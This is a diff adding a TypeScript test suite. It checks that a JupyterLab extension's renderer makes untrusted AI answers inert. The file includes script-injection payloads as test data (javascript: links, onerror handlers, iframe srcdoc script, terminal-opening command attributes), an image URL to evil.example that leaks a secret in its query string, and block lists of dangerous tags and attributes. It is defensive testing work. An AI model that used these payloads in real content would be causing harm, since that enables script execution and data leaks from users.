@@ -1,0 +1,157 @@
+// The renderer of outputs that carry the answer mark, fed the hostile answers of
+// tests/safety_cases.json RAW: a notebook from elsewhere may carry the mark with Markdown that never
+// went through the safe rewrite, so JupyterLab's sanitizer and render.ts's DOM pass alone must hold.
+// The parser is marked as JupyterLab's markedparser-extension sets it up; the sanitizer is
+// JupyterLab's own.
+import { document } from './dom';
+
+import { strict as assert } from 'node:assert';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { test } from 'node:test';
+
+import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
+import { IRenderMime } from '@jupyterlab/rendermime-interfaces';
+import { Marked } from 'marked';
+import { gfmHeadingId } from 'marked-gfm-heading-id';
+import { mangle } from 'marked-mangle';
+
+import { BlockRenderer, harden, renderAnswer, setImageOrigins } from '../src/render';
+
+interface ICase {
+  name: string;
+  answer: string;
+  deltas?: string[];
+  image_origins?: string[];
+}
+
+const table = JSON.parse(
+  readFileSync(join(__dirname, '..', '..', '..', 'tests', 'safety_cases.json'), 'utf-8')
+) as { cases: ICase[] };
+
+// As @jupyterlab/markedparser-extension: its two plugins, then `{ async: true, gfm: true }`.
+const marked = new Marked(gfmHeadingId(), mangle());
+const markdownParser: IRenderMime.IMarkdownParser = {
+  render: async (source: string) => marked.parse(source, { async: true, gfm: true })
+};
+
+function options(typeset?: (host: HTMLElement) => void): IRenderMime.IRendererOptions {
+  const latexTypesetter = typeset && { typeset: async (host: HTMLElement) => typeset(host), load: async () => {} };
+  return { sanitizer: new Sanitizer(), markdownParser, latexTypesetter } as unknown as IRenderMime.IRendererOptions;
+}
+
+/** Elements that load, run, submit or restyle: none may survive. */
+const FORBIDDEN = [
+  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'link', 'meta', 'base',
+  'form', 'input', 'button', 'select', 'textarea', 'svg', 'math', 'video', 'audio', 'source', 'track',
+  'picture', 'portal', 'canvas', 'noscript', 'template'
+];
+/** Attributes that load, run, navigate or restyle (`src` and `href` are checked apart). */
+const FORBIDDEN_ATTRIBUTES = [
+  'style', 'srcset', 'srcdoc', 'poster', 'background', 'action', 'formaction', 'ping', 'data', 'usemap',
+  'lowsrc', 'dynsrc', 'xlink:href', 'data-commandlinker-command', 'data-commandlinker-args'
+];
+
+/** Every rule of "Answers are untrusted content" that the rendered DOM can show. */
+function assertInert(root: Element, origins: readonly string[], where: string): void {
+  const html = root.innerHTML;
+  for (const element of Array.from(root.querySelectorAll('*'))) {
+    const tag = element.localName;
+    const at = `${where}: <${tag}> in ${html}`;
+    assert.ok(!FORBIDDEN.includes(tag), at);
+    for (const { name } of Array.from(element.attributes)) {
+      assert.ok(!name.startsWith('on'), `${at}: ${name}`);
+      assert.ok(!FORBIDDEN_ATTRIBUTES.includes(name), `${at}: ${name}`);
+    }
+    if (tag === 'img') {
+      const src = element.getAttribute('src') ?? '';
+      assert.ok(origins.some(origin => src.startsWith(origin + '/')), `${at}: an image from elsewhere`);
+      assert.equal(element.getAttribute('referrerpolicy'), 'no-referrer', at);
+    } else {
+      assert.ok(!element.hasAttribute('src'), `${at}: src`);
+    }
+    if (element.hasAttribute('href')) {
+      assert.equal(tag, 'a', `${at}: a link that is not an <a>`);
+      assert.match(element.getAttribute('href') ?? '', /^(https?:|mailto:)/i, at);
+      assert.equal(element.getAttribute('target'), '_blank', at);
+      assert.equal(element.getAttribute('rel'), 'noopener noreferrer', at);
+    }
+  }
+}
+
+for (const c of table.cases) {
+  test(`raw answer, rendered whole: ${c.name}`, async () => {
+    setImageOrigins(c.image_origins ?? []);
+    const host = document.createElement('div');
+
+    await renderAnswer(host, c.answer, options());
+
+    assertInert(host, c.image_origins ?? [], c.name);
+    setImageOrigins([]);
+  });
+
+  test(`raw answer, rendered live block by block: ${c.name}`, async () => {
+    setImageOrigins(c.image_origins ?? []);
+    const host = document.createElement('div');
+    const live = new BlockRenderer(host, options());
+    const deltas = c.deltas ?? [c.answer.slice(0, c.answer.length >> 1), c.answer.slice(c.answer.length >> 1)];
+
+    for (let i = 1; i <= deltas.length; i++) {
+      await live.render(deltas.slice(0, i).join(''));
+      assertInert(host, c.image_origins ?? [], `${c.name}, after ${i} delta(s)`);
+    }
+    setImageOrigins([]);
+  });
+}
+
+test('images become links the user may follow, and only the allowed origin loads', async () => {
+  setImageOrigins(['https://images.example.org']);
+  const host = document.createElement('div');
+
+  await renderAnswer(
+    host,
+    '![chart](https://images.example.org/a.png) ![leak](https://evil.example/x.png?q=secret)',
+    options()
+  );
+
+  assert.deepEqual(
+    Array.from(host.querySelectorAll('img')).map(img => img.getAttribute('src')),
+    ['https://images.example.org/a.png']
+  );
+  const blocked = host.querySelector('a.jp-cellmage-BlockedImage');
+  assert.equal(blocked?.textContent, '\u{1F5BC} leak');
+  assert.equal(blocked?.getAttribute('href'), 'https://evil.example/x.png?q=secret');
+  setImageOrigins([]);
+});
+
+test('what the math typesetter adds is hardened too', async () => {
+  const host = document.createElement('div');
+  // A typesetter (MathJax in JupyterLab) makes new elements after the sanitizer has run.
+  const typeset = (node: HTMLElement) => {
+    node.insertAdjacentHTML(
+      'beforeend',
+      '<a href="javascript:alert(1)">x</a><img src="https://evil.example/t.png"><span onclick="alert(1)">y</span>'
+    );
+  };
+
+  await renderAnswer(host, '$x^2$', options(typeset));
+
+  assertInert(host, [], 'after typesetting');
+});
+
+test('harden() alone makes a hostile fragment inert, with no sanitizer before it', () => {
+  const template = document.createElement('template');
+  template.innerHTML =
+    '<a href=" JaVaScRiPt:alert(1)">a</a><a href="https://example.org" target="_self" rel="opener">b</a>' +
+    '<img src="https://evil.example/x.png" onerror="alert(1)" alt="x"><div style="background:url(https://evil.example/)">' +
+    '<form action="https://evil.example/"><button formaction="https://evil.example/">go</button></form></div>' +
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe><svg><a href="javascript:alert(1)">s</a></svg>' +
+    '<button data-commandlinker-command="terminal:create-new">open</button><object data="x"></object>';
+
+  harden(template.content);
+
+  const host = document.createElement('div');
+  host.append(template.content);
+  assertInert(host, [], 'harden alone');
+  assert.match(host.textContent ?? '', /go/); // a form's content shows, as text
+});
